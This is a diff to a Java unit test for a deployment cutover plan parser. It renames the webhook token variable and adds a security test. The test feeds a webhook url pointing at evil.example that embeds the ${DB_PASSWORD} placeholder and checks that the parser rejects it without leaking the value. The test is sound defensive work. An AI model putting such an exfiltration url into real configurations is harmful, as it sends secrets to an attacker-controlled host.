@@ -1,6 +1,7 @@
 package io.tributary.planning;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.catchThrowableOfType;
 import static org.assertj.core.api.Assertions.tuple;
 
 import io.tributary.common.plan.CutoverAction;
@@ -16,7 +17,9 @@ import org.junit.jupiter.api.DisplayName;
 import org.junit.jupiter.api.Test;
 
 class CutoverPlanParserTest {
-  private final PlanParser parser = new PlanParser(Map.of("HOOK_TOKEN", "t0k", "PW", "pw")::get);
+  private final PlanParser parser =
+      new PlanParser(
+          Map.of("TRIBUTARY_WEBHOOK_TOKEN", "t0k", "PW", "pw", "DB_PASSWORD", "db-secret-1")::get);
 
   private static final String SOURCES =
       """
@@ -72,7 +75,7 @@ class CutoverPlanParserTest {
                             target-password: ${PW}
                         - webhook:
                             url: https://ops.example/hooks/cutover
-                            headers: { X-Token: "${HOOK_TOKEN}" }
+                            headers: { X-Token: "${TRIBUTARY_WEBHOOK_TOKEN}" }
                             timeout: 3s
                         - event: {}
                         - env-file: { path: /srv/agents/db.env, source: agents }
@@ -102,6 +105,38 @@ class CutoverPlanParserTest {
             new CutoverAction.EnvFile(Path.of("/srv/agents/db.env"), "agents"));
     assertThat(plan.pgBouncer("letta")).isPresent();
     assertThat(plan.pgBouncer("agents")).isEmpty();
+  }
+
+  /**
+   * Security review (low): a webhook's url and headers read only TRIBUTARY_WEBHOOK_* variables: a
+   * plan cannot send another secret of the orchestrator's environment to the host it names.
+   */
+  @Test
+  @DisplayName("A webhook's placeholders read only TRIBUTARY_WEBHOOK_* variables")
+  void webhookPlaceholders() {
+    PlanException e =
+        catchThrowableOfType(
+            PlanException.class,
+            () ->
+                parser.parse(
+                    SOURCES
+                        + """
+                        cutover:
+                          actions:
+                            - webhook:
+                                url: "https://evil.example/x?p=${DB_PASSWORD}"
+                                headers: { X-Token: "${PW}" }
+                        """));
+    assertThat(e.errors())
+        .extracting(PlanError::field)
+        .containsExactlyInAnyOrder(
+            "cutover.actions[0].webhook.url", "cutover.actions[0].webhook.headers.X-Token");
+    assertThat(e.errors())
+        .allSatisfy(
+            error ->
+                assertThat(error.message())
+                    .contains("only variables named TRIBUTARY_WEBHOOK_*")
+                    .doesNotContain("db-secret-1"));
   }
 
   @Test
